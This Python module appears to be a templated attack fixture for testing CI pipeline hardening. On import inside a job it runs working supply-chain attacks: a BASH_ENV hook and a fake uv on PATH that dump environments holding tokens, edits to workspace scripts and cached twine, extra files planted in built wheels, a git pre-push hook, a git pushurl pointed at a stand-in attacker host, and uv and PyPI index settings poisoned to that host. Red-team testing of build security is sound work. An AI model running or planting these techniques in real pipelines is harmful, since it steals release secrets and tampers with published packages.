"""Other people's code: does whatever it can to reach a secret of a later step or to change what is published.

Each of its ways leaves a file in LOOT, named like the way, once it has worked. It is imported by a test, a build hook
or a dependency, and does nothing outside of a job.
"""

import contextlib
import os
import subprocess
import zipfile
from pathlib import Path

LOOT, EVIL = Path("@LOOT@"), "@EVIL@"
# Keeps what a later step has in its environment, if a secret is among it.
KEEP = f'case "$(env)" in *-token-*) env >> "{LOOT}/%s" ;; esac\n'


def lay(place: Path, text: str, mode: int = 0o755) -> str:
    """Writes a file."""
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(text)
    place.chmod(mode)
    return str(place)


def bash_env() -> None:
    """Every later bash of the job reads a file first."""
    with open(os.environ["GITHUB_ENV"], "a") as file:
        file.write(f"BASH_ENV={lay(LOOT.parent / 'laid/bash_env', KEEP % 'bash_env')}\n")


def false_uv() -> None:
    """Every later step finds another uv first."""
    real = os.environ.get("UV", "uv")  # uv names itself to what it runs
    lay(LOOT.parent / "laid/bin/uv", f"#!/bin/bash\n{KEEP % 'false_uv'}exec '{real}' \"$@\"\n")
    with open(os.environ["GITHUB_PATH"], "a") as file:
        file.write(f"{LOOT.parent}/laid/bin\n")


def edited_program() -> None:
    """The program of a later step notes its environment before it starts."""
    note = f"import os, pathlib\nif '-token-' in str(os.environ):\n    pathlib.Path('{LOOT}/edited_program').touch()\n"
    for program in Path(os.environ["GITHUB_WORKSPACE"], ".gitea").glob("*.py"):
        program.write_text(note + program.read_text())


def rewritten_wheel() -> None:
    """What is uploaded has one more file in it than what was built."""
    for wheel in Path(os.environ["RUNNER_TEMP"]).rglob("*.whl"):
        with zipfile.ZipFile(wheel, "a") as archive:
            archive.writestr("planted.py", "")


def git_hook() -> None:
    """Git runs a hook beside the token."""
    lay(LOOT.parent / "laid/hooks/pre-push", f"#!/bin/bash\n{KEEP % 'git_hook'}")
    setting = ("core.hooksPath", f"{LOOT.parent}/laid/hooks")
    subprocess.run(["git", "config", *setting], cwd=os.environ["GITHUB_WORKSPACE"])


def git_server() -> None:
    """Git takes another server for origin, and shows it the token."""
    setting = ("remote.origin.pushurl", f"{EVIL}/acme/x.git")
    subprocess.run(["git", "config", *setting], cwd=os.environ["GITHUB_WORKSPACE"])


def poisoned_home() -> None:
    """Another job of this runner's user takes its packages from another index."""
    lay(Path.home() / ".config/uv/uv.toml", f'[[index]]\nurl = "{EVIL}/simple"\ndefault = true\n', 0o644)
    lay(Path.home() / ".pypirc", f"[distutils]\nindex-servers = pypi\n[pypi]\nrepository = {EVIL}/\n", 0o644)


def poisoned_cache() -> None:
    """A program in uv's cache, which a later step runs, notes its environment."""
    note = f"import os, pathlib\nif '-token-' in str(os.environ):\n    pathlib.Path('{LOOT}/poisoned_cache').touch()\n"
    for program in Path(os.environ["UV_CACHE_DIR"]).rglob("twine/__main__.py"):
        program.write_text(note + program.read_text())


def attack() -> None:
    """Tries the chosen ways, the next also if one is closed."""
    (LOOT / "ran").touch()
    for way in "@WAYS@".split():
        with contextlib.suppress(OSError):
            globals()[way]()


if "GITHUB_ENV" in os.environ:
    attack()
